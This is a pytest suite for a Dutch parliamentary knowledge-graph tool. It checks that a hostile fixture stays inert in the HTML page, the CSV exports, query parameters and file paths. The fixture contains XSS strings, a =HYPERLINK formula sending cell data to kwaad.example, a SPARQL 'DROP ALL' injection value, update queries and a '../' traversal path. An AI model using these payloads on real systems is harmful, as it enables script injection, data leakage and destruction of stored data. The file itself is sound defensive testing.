"""Nothing injected: document text is data everywhere it is shown or used.

One hostile document (its name an HTML tag, its sentences starting with spreadsheet
formulas and closing script elements) is built once; the page, the CSV exports, the
query parameters and the output paths are checked against it.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from kamerkg.graph.cli import main

HOSTILE_NAME = "<img src=x onerror=alert(1)>.txt"
HOSTILE_TEXT = """\
Vragen van het lid Bakker (GroenLinks) aan de minister van Buitenlandse Zaken over
Russische sabotage (ingezonden 9 mei 2022).

Vraag 1
Kent u het bericht "</script><script>alert(1)</script>" over sabotage?

Antwoord op vraag 1
=HYPERLINK("http://kwaad.example/?x="&A1) Volgens de MIVD is de hackersgroep Sandworm
onderdeel van de Russische militaire inlichtingendienst GRU </script><img src=x onerror=alert(2)>.
"""
# A parameter value that would end the query and drop the graph if it were pasted.
DROP = '" } ; DROP ALL #'


def run(capsys, *args: object) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    (root / "docs").mkdir()
    (root / "docs" / HOSTILE_NAME).write_text(HOSTILE_TEXT, encoding="utf-8")
    assert main(["build", str(root / "docs"), "-o", str(root / "out"), "--quiet"]) == 0
    return root / "out"


def test_the_hostile_document_gives_a_claim_to_show(hostile, capsys):
    code, out, _ = run(capsys, "query", "attributions", "-o", hostile, "--format", "json")
    assert code == 0 and "=HYPERLINK" in out and "</script><img" in out


def test_page_holds_no_live_markup_from_the_document(hostile):
    page = (hostile / "graph.html").read_text(encoding="utf-8")
    assert "onerror=alert" in page  # the text is there ...
    for live in ("<img src=x", "</script><img", "<script>alert"):
        assert live not in page  # ... but never as markup
    # The data block is whole: the text did not close its script element early.
    start = page.index('id="kkg-data">') + len('id="kkg-data">')
    data = json.loads(page[start : page.index("</script>", start)])
    assert "onerror=alert(2)" in json.dumps(data, ensure_ascii=False)


def test_exported_csv_cells_cannot_start_formulas(hostile, capsys, tmp_path):
    code, _, _ = run(capsys, "export", "-o", hostile, "--format", "csv", "--dest", tmp_path)
    assert code == 0
    for name in ("nodes.csv", "edges.csv"):
        rows = list(csv.reader(io.StringIO((tmp_path / name).read_text(encoding="utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    assert "'=HYPERLINK" in (tmp_path / "edges.csv").read_text(encoding="utf-8-sig")


def test_query_csv_cells_cannot_start_formulas(hostile, capsys):
    code, out, _ = run(capsys, "query", "attributions", "-o", hostile, "--format", "csv")
    assert code == 0
    cells = [cell for row in list(csv.reader(io.StringIO(out)))[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize("name", ["actor", "stance", "relation"])
def test_parameter_values_are_bound_not_pasted(hostile, capsys, name):
    before = (hostile / "graph.ttl").read_bytes()
    code, out, err = run(capsys, "query", "attributions", "-o", hostile, "-p", f"{name}={DROP}")
    assert code == 0, err
    assert out.splitlines()[2:] == []  # no row matches the odd value, and no error
    code, out, _ = run(capsys, "query", "attributions", "-o", hostile, "--format", "json")
    assert code == 0 and "Sandworm" in out  # the graph is all still there
    assert (hostile / "graph.ttl").read_bytes() == before


@pytest.mark.parametrize(
    "text",
    [
        "DROP ALL",
        "PREFIX x: <http://x/>\nCLEAR DEFAULT",
        "# SELECT * WHERE { ?s ?p ?o }\nINSERT DATA { <http://x/a> <http://x/b> 1 }",
        "DELETE WHERE { ?s ?p ?o }",
    ],
)
def test_query_command_refuses_updates(hostile, capsys, text):
    code, _, err = run(capsys, "query", text, "-o", hostile)
    assert code == 2 and "E401" in err and len(err.splitlines()) == 1
    code, out, _ = run(capsys, "query", "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }", "-o", hostile)
    assert code == 0 and re.search(r"\b[1-9]\d*\b", out)


def test_names_from_document_text_never_form_paths(hostile, capsys, tmp_path):
    # The store names graph files after a digest, not after the document.
    names = [p.name for p in (hostile / "store" / "graphs").iterdir()]
    assert names and all(re.fullmatch(r"[0-9a-f]{32}\.nt", n) for n in names)
    # An actor name given to --around selects a view; it never becomes a file name.
    before = sorted(p.name for p in hostile.iterdir())
    code, _, err = run(capsys, "viz", "-o", hostile, "--around", "../../" + HOSTILE_NAME)
    assert code == 2 and "E601" in err
    assert sorted(p.name for p in hostile.iterdir()) == before
    code, out, err = run(capsys, "viz", "-o", hostile, "--around", "Sandworm")
    assert code == 0, err
    assert Path(out.strip()) == hostile / "view.html"
    target = tmp_path / "x"
    code, out, _ = run(capsys, "export", "-o", hostile, "--format", "csv", "--dest", target)
    assert code == 0
    assert all(Path(line).parent == target for line in out.splitlines())


def test_output_paths_the_user_names_are_theirs(hostile, capsys, tmp_path, monkeypatch):
    """``..`` or an absolute path given on the command line is the user's choice."""
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    code, _, err = run(capsys, "export", "-o", hostile, "--format", "ttl", "--dest", "../uit")
    assert code == 0, err
    assert (tmp_path / "a" / "uit" / "graph.ttl").exists()
    code, _, err = run(capsys, "viz", "-o", hostile, "--output", tmp_path / "pagina.html")
    assert code == 0 and (tmp_path / "pagina.html").exists()
